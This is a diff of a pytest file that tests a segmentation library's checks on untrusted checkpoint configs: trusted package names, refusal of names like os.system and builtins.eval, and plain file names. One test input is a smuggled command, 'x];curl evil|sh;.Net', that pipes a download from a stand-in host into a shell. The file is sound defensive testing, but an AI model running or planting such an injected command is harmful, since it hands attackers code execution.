@@ -1,9 +1,17 @@
 """Untrusted files build public classes only, and their overrides run nothing."""
 
+import sys
+
 import pytest
 
 from segment.errors import SegmentError
-from segment.records.trust import check_file_names, check_recorded_overrides, check_stranger_config
+from segment.records.trust import (
+    check_file_names,
+    check_recorded_overrides,
+    check_stranger_config,
+    needed_trust,
+    read_trust,
+)
 
 NET = {"_target_": "segment.models.SegmentationNet", "encoder": {"_target_": "segment.models.UNetEncoder", "width": 8}}
 
@@ -67,12 +75,82 @@ def test_only_the_folders_that_are_asked_for():
     refusal({"_target_": "segment.data.VOCDataModule"}, folders=("segment.models",))
 
 
-def test_trust_means_a_package_and_no_prefix():
-    for target in ("mylab.Net", "mylab.nets.Net", "mylab"):
+@pytest.fixture
+def mylab(tmp_path, monkeypatch):
+    """A package with a class, a sub-package that is imported from there, and a module that imports ``os``."""
+    files = {
+        "mylab/__init__.py": "from mylab.nets import Net",
+        "mylab/nets.py": "import os\nimport lightning\nclass Net: pass\nclass Lit(lightning.LightningModule): pass",
+        "mylab/losses.py": "from mylab.nets import Net\nclass Loss: pass",
+        "mylab/broken.py": "raise ValueError('no licence')",
+        "mylab_evil.py": "class Net: pass",
+        "mylabx.py": "class Net: pass",
+    }
+    (tmp_path / "mylab").mkdir()
+    for name, content in files.items():
+        (tmp_path / name).write_text(content)
+    monkeypatch.syspath_prepend(tmp_path)
+    yield "mylab"
+    for name in [name for name in sys.modules if name.startswith("mylab")]:
+        del sys.modules[name]
+
+
+def test_trust_means_a_package_and_no_prefix(mylab):
+    for target in ("mylab.Net", "mylab.nets.Net", "mylab.losses.Loss"):
         check_stranger_config({"_target_": target}, "a.ckpt", trust=["mylab"])
-    for target in ("mylabel.Net", "mylab_evil.Net", "my.lab"):
-        refusal({"_target_": target}, trust=["mylab"])
-    assert "add trust=[mylab]" in refusal({"_target_": "mylab.Net"})
+    check_stranger_config({"_target_": "mylab.nets.Net"}, "a.ckpt", trust=["mylab.nets"])
+    for target in ("mylabx.Net", "mylab_evil.Net", "my.lab", "mylab..Net", ".mylab"):
+        assert "refused, it names" in refusal({"_target_": target}, trust=["mylab"])
+    for target in ("mylab.losses.Loss", "mylab.Net"):
+        assert 'add trust=[mylab] (in Python: trust=["mylab"])' in refusal({"_target_": target}, trust=["mylab.nets"])
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "mylab.nets.os.system",
+        "mylab.nets.Lit.load_from_checkpoint",
+        "mylab.Net.__class__",
+        "mylab.Net.__subclasses__",
+        "mylab.nets",
+    ],
+)
+def test_a_name_in_a_trusted_package_that_is_not_its_own_is_refused(mylab, target):
+    assert f"refused, {target} is" in refusal({"_target_": target}, trust=["mylab"])
+    if target == "mylab.nets":
+        return
+    refusal({"_target_": "mylab.losses.Net"}, trust=["mylab.losses"])
+
+
+def test_a_trusted_name_that_cannot_be_imported_is_one_line(mylab):
+    assert "no licence" in refusal({"_target_": "mylab.broken.Net"}, trust=["mylab"])
+    assert "cannot import mylab.Nothing" in refusal({"_target_": "mylab.Nothing"}, trust=["mylab"])
+    assert "in the folder that holds that package" in refusal({"_target_": "nolab.Net"}, trust=["nolab"])
+
+
+@pytest.mark.parametrize("target", ["os.system", "builtins.eval", "x];curl evil|sh;.Net", "mylab\n.Net", "a b.c"])
+def test_no_advice_to_trust_what_is_no_package_of_a_users(target):
+    assert "trust" not in refusal({"_target_": target}).partition("expected")[2]
+
+
+def test_metrics_of_torchmetrics_pass_without_trust():
+    for target in ("torchmetrics.classification.MulticlassF1Score", "torchmetrics.JaccardIndex"):
+        check_stranger_config({"_target_": target}, "runs/a")
+    for target in ("torchmetrics.image.FrechetInceptionDistance", "torchmetrics.utilities.data.dim_zero_cat"):
+        refusal({"_target_": target})
+
+
+@pytest.mark.parametrize("given", [["my-lab"], "my lab", [1], [""], ["mylab."], ["*"], [None]])
+def test_trust_names_packages(given):
+    with pytest.raises(SegmentError, match=r"^trust=.*expected names of packages"):
+        read_trust(given)
+
+
+def test_the_trust_that_a_configuration_needs():
+    config = {"net": NET, "loss": {"_target_": "mylab.Loss"}, "x": [{"_target_": "other.sub.A"}]}
+    assert needed_trust(config) == ["mylab", "other"]
+    assert needed_trust(NET) == []
+    assert (read_trust("mylab"), read_trust(["a", "b.c"]), read_trust(None)) == (["mylab"], ["a", "b.c"], [])
 
 
 @pytest.mark.parametrize(
@@ -102,6 +180,14 @@ def test_a_name_is_no_path(key, value):
         check_file_names({group: {"x": {"_target_": "lightning.pytorch.loggers.WandbLogger", "name": "a/b"}}}, "runs/a")
         with pytest.raises(SegmentError, match="is no plain file name"):
             check_file_names({group: {"x": {key: value}}}, "runs/a")
+
+
+def test_the_value_of_a_metric_with_a_slash_may_stand_in_a_file_name():
+    plain = {"filename": "{epoch}-{val/mIoU:.3f}", "auto_insert_metric_name": False}
+    check_file_names({"callbacks": {"x": plain}}, "runs/a")
+    for changed in ({"auto_insert_metric_name": True}, {"filename": "{epoch:/>9}"}, {"filename": "{epoch}/{step}"}):
+        with pytest.raises(SegmentError, match="is no plain file name"):
+            check_file_names({"callbacks": {"x": {**plain, **changed}}}, "runs/a")
 
 
 def test_downloads_are_told_apart_by_their_level():
